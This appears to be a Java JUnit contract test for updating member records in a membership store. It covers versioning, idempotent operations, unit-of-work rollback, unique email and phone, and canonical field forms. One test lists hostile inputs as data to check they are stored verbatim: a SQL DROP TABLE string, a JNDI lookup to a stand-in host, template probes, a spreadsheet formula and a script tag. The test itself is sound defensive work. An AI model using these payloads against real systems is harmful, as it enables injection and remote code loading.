package io.membersync.testing;

import static io.membersync.testing.ContractGate.read;
import static io.membersync.testing.ContractGate.value;
import static io.membersync.testing.MemberFixture.attribute;
import static io.membersync.testing.MemberFixture.gate;
import static io.membersync.testing.MemberFixture.nameOf;
import static io.membersync.testing.MemberFixture.named;
import static io.membersync.testing.MemberFixture.operation;
import static io.membersync.testing.MemberFixture.read;
import static io.membersync.testing.MemberFixture.someone;
import static io.membersync.testing.MemberFixture.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.membersync.consent.GatedPatch;
import io.membersync.member.MemberId;
import io.membersync.member.MemberRecord;
import io.membersync.member.MemberStore.OperationId;
import io.membersync.member.MemberStore.UpdateReport;
import io.membersync.member.MemberStore.UpdateReport.Outcome;
import io.membersync.profile.Field;
import io.membersync.profile.FieldMapping;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** What {@link MemberStoreContract} asks of updating a member. */
interface MemberUpdateContract extends MemberFixture {
  /** One value of every listed field, in canonical form. */
  Map<Field<?>, String> SAMPLES = Map.ofEntries(
      Map.entry(Field.NICKNAME, "mina\ud83c\udf77"),
      Map.entry(Field.NAME, "\uae40\ubbf8\ub098"),
      Map.entry(Field.PICTURE, "https://img.example.com/mina.jpg"),
      Map.entry(Field.GENDER, "FEMALE"),
      Map.entry(Field.AGE_RANGE, "20~29"),
      Map.entry(Field.BIRTH_YEAR, "1999"),
      Map.entry(Field.BIRTHDAY, "--04-15"));

  private UpdateReport update(MemberRecord seen, GatedPatch patch, OperationId operation) {
    return MemberFixture.update(this, seen.id(), seen.version(), patch, operation);
  }

  private Map<String, Outcome> only(Outcome outcome) {
    return Map.of(attribute(this, Field.NAME), outcome);
  }

  @Test
  default void anUpdateWritesItsValuesAndLeavesTheOthers() {
    MemberRecord before = read(this, someone(this));
    UpdateReport report = update(before, named(this, "Minah"), operation());
    assertTrue(report.versionFits());
    assertEquals(only(Outcome.APPLIED), report.outcomes());
    MemberRecord after = read(this, before.id());
    Map<String, String> expected = new LinkedHashMap<>(before.values());
    expected.put(attribute(this, Field.NAME), "Minah");
    assertEquals(expected, after.values());
    assertNotEquals(before.version(), after.version(), "the row has changed");
    assertEquals(before.status(), after.status());
  }

  @Test
  default void everyMappedFieldIsKeptInItsCanonicalForm() {
    List<io.membersync.profile.FieldValue<?>> values = new ArrayList<>();
    for (FieldMapping.Entry entry : mapping().entries()) {
      if (SAMPLES.containsKey(entry.field())) {
        values.add(read(entry.field(), SAMPLES.get(entry.field())));
      }
    }
    values.add(read(Field.EMAIL, ContractGate.email()));
    values.add(read(Field.PHONE, ContractGate.phone()));
    GatedPatch patch = gate(this).patch(values.toArray(io.membersync.profile.FieldValue<?>[]::new));
    MemberRecord before = read(this, addMember(Map.of(attribute(this, Field.NAME), "Mina")));
    UpdateReport report = update(before, patch, operation());
    assertEquals(patch.entries().size(), report.outcomes().size(), "an outcome for each");
    report
        .outcomes()
        .forEach((attribute, outcome) ->
            assertEquals(Outcome.APPLIED, outcome, "attribute " + attribute));
    assertEquals(
        ContractGate.texts(patch),
        new java.util.TreeMap<>(read(this, before.id()).values()),
        "a value must come back as it was written");
    UpdateReport again = update(read(this, before.id()), patch, operation());
    again
        .outcomes()
        .forEach((attribute, outcome) ->
            assertEquals(Outcome.UNCHANGED, outcome, "attribute " + attribute));
  }

  @Test
  default void anEqualValueIsUnchanged() {
    MemberRecord before = read(this, someone(this));
    UpdateReport report = update(before, named(this, "Mina"), operation());
    assertEquals(new UpdateReport(true, only(Outcome.UNCHANGED)), report);
    assertEquals(before, read(this, before.id()), "nothing was written, not even a version");
  }

  @Test
  default void anEmptyPatchWritesNothing() {
    MemberRecord before = read(this, someone(this));
    UpdateReport report = update(before, gate(this).patch(), operation());
    assertEquals(new UpdateReport(true, Map.of()), report);
    assertEquals(before, read(this, before.id()));
  }

  @Test
  default void onlyTheNamedMemberIsUpdated() {
    String phone = ContractGate.phone();
    String otherPhone = gate(this).isUnique(Field.PHONE) ? ContractGate.phone() : phone;
    MemberId one = with(this, "Mina", ContractGate.email(), phone);
    MemberId two = with(this, "Mina", ContractGate.email(), otherPhone);
    update(read(this, two), named(this, "Sora"), operation());
    assertEquals("Mina", nameOf(this, one), "a store must update by id, not by contact");
    assertEquals("Sora", nameOf(this, two));
  }

  @Test
  default void aStaleUpdateWritesNothing() {
    MemberRecord before = read(this, someone(this));
    editMember(before.id(), attribute(this, Field.NAME), Optional.of("Sora"));
    UpdateReport report = update(before, named(this, "Minah"), operation());
    assertEquals(UpdateReport.stale(), report);
    assertEquals("Sora", nameOf(this, before.id()), "the member's own edit stands");
  }

  @Test
  default void anUpdateMakesEarlierReadsStale() {
    MemberRecord before = read(this, someone(this));
    update(before, named(this, "Minah"), operation());
    assertEquals(UpdateReport.stale(), update(before, named(this, "Sora"), operation()));
    assertEquals("Minah", nameOf(this, before.id()));
  }

  @Test
  default void anEditElsewhereInTheRowIsNoticed() {
    MemberRecord before = read(this, someone(this));
    editMember(before.id(), attribute(this, Field.PHONE), Optional.empty());
    assertEquals(UpdateReport.stale(), update(before, named(this, "Minah"), operation()));
  }

  @Test
  default void aMemberWhoIsNotThereIsStale() {
    MemberRecord someone = read(this, someone(this));
    UpdateReport report = MemberFixture.update(
        this, new MemberId("999999999999"), someone.version(), named(this, "Minah"), operation());
    assertEquals(UpdateReport.stale(), report);
    assertTrue(store().find(new MemberId("999999999999")).isEmpty(), "an update makes nobody");
  }

  @Test
  default void anOperationThatHasWrittenIsNotRepeated() {
    MemberRecord before = read(this, someone(this));
    OperationId operation = operation();
    UpdateReport first = update(before, named(this, "Minah"), operation);
    MemberRecord written = read(this, before.id());
    assertEquals(first, update(before, named(this, "Minah"), operation), "the same answer");
    assertEquals(written, read(this, before.id()), "and no second effect");

    editMember(before.id(), attribute(this, Field.NAME), Optional.of("Sora"));
    assertEquals(first, update(before, named(this, "Minah"), operation));
    assertEquals("Sora", nameOf(this, before.id()), "what came later stands");
  }

  @Test
  default void anOperationThatWroteNothingMayBeTriedAgain() {
    MemberRecord before = read(this, someone(this));
    editMember(before.id(), attribute(this, Field.PHONE), Optional.empty());
    OperationId operation = operation();
    assertFalse(update(before, named(this, "Minah"), operation).versionFits());
    MemberRecord now = read(this, before.id());
    assertTrue(update(now, named(this, "Minah"), operation).versionFits());
    assertEquals("Minah", nameOf(this, before.id()));
  }

  @Test
  default void anUpdateRollsBackWithItsUnit() {
    MemberRecord before = read(this, someone(this));
    OperationId operation = operation();
    assertThrows(
        Interrupted.class,
        () -> unitOfWork().execute(() -> {
          store().update(before.id(), before.version(), named(this, "Minah"), operation);
          assertEquals("Minah", nameOf(this, before.id()), "seen by the unit itself");
          throw new Interrupted();
        }));
    if (store().isRemote()) {
      assertEquals("Minah", nameOf(this, before.id()), "no unit takes back what an API has done");
      assertEquals(Optional.empty(), store().unitOfWork(), "and the store must not say one does");
      return;
    }
    assertEquals(before, read(this, before.id()), "the store does not take part in the unit");
    UpdateReport again = update(before, named(this, "Minah"), operation);
    assertEquals(new UpdateReport(true, only(Outcome.APPLIED)), again, "nothing was remembered");
    assertEquals("Minah", nameOf(this, before.id()));
  }

  @Test
  default void anUpdateWithoutAUnitIsCommitted() {
    MemberRecord before = read(this, someone(this));
    assertFalse(unitOfWork().isOpen());
    store().update(before.id(), before.version(), named(this, "Minah"), operation());
    assertEquals("Minah", nameOf(this, before.id()));
    assertFalse(unitOfWork().isOpen());
  }

  @Test
  default void aUniqueValueOfAnotherMemberIsInvalid() {
    for (Field<String> field : List.of(Field.EMAIL, Field.PHONE)) {
      boolean email = field.equals(Field.EMAIL);
      String taken = email ? ContractGate.email() : ContractGate.phone();
      MemberId holder =
          addMember(Map.of(attribute(this, Field.NAME), "Sora", attribute(this, field), taken));
      MemberRecord before = read(this, someone(this));
      GatedPatch patch = gate(this).patch(value(Field.NAME, "Minah"), read(field, taken));
      UpdateReport report = update(before, patch, operation());
      Outcome expected = gate(this).isUnique(field) ? Outcome.INVALID : Outcome.APPLIED;
      assertTrue(report.versionFits());
      assertEquals(expected, report.outcomes().get(attribute(this, field)), "for " + field);
      assertEquals(Outcome.APPLIED, report.outcomes().get(attribute(this, Field.NAME)));
      assertEquals("Minah", nameOf(this, before.id()), "the other values are written");
      assertEquals(Optional.of(taken), read(this, holder).value(attribute(this, field)));
      if (expected == Outcome.INVALID) {
        assertEquals(
            before.value(attribute(this, field)),
            read(this, before.id()).value(attribute(this, field)),
            "an invalid value leaves the old one");
      }
    }
  }

  @Test
  default void aUniqueValueIsFreeOnceItsHolderHasAnother() {
    String phone = ContractGate.phone();
    MemberId holder = with(this, "Sora", ContractGate.email(), phone);
    editMember(holder, attribute(this, Field.PHONE), Optional.of(ContractGate.phone()));
    MemberRecord before = read(this, someone(this));
    UpdateReport report = update(before, gate(this).patch(read(Field.PHONE, phone)), operation());
    assertEquals(Map.of(attribute(this, Field.PHONE), Outcome.APPLIED), report.outcomes());
  }

  @Test
  default void textIsKeptAsItIs() {
    List<String> names = List.of(
        "Robert'); DROP TABLE members; --",
        "${jndi:ldap://x.example/a}",
        "#{7*7} %s %d {0} ? :name",
        "=HYPERLINK(\"https://x.example\")",
        "<script>alert(1)</script>",
        "\uae40\ubbf8\ub098 \ud83d\udc69\u200d\ud83d\udc67 \u200f\u05d0",
        "cafe\u0301 caf\u00e9",
        "\\ \" ' `",
        "Mina  Kim");
    MemberId member = someone(this);
    for (String name : names) {
      UpdateReport report = update(read(this, member), named(this, name), operation());
      assertEquals(only(Outcome.APPLIED), report.outcomes(), "for " + name);
      assertEquals(name, nameOf(this, member), "text must not be changed on its way");
    }
  }

  @Test
  default void aLongValueIsWrittenWholeOrRefused() {
    MemberId member = someone(this);
    for (String name : List.of("\ud55c".repeat(200), "x".repeat(255), "y".repeat(10_000))) {
      String before = nameOf(this, member);
      UpdateReport report = update(read(this, member), named(this, name), operation());
      Outcome outcome = report.outcomes().get(attribute(this, Field.NAME));
      if (outcome == Outcome.APPLIED) {
        assertEquals(name, nameOf(this, member), "a value must not be cut");
      } else {
        assertEquals(Outcome.INVALID, outcome, "what does not fit is INVALID, not an exception");
        assertEquals(before, nameOf(this, member));
      }
    }
  }

  @Test
  default void anUpdateLeavesTheStateAlone() {
    for (MemberRecord.Status status : statuses()) {
      MemberId member = someone(this);
      setStatus(member, status);
      update(read(this, member), named(this, "Minah"), operation());
      assertEquals(status, read(this, member).status());
    }
  }
}
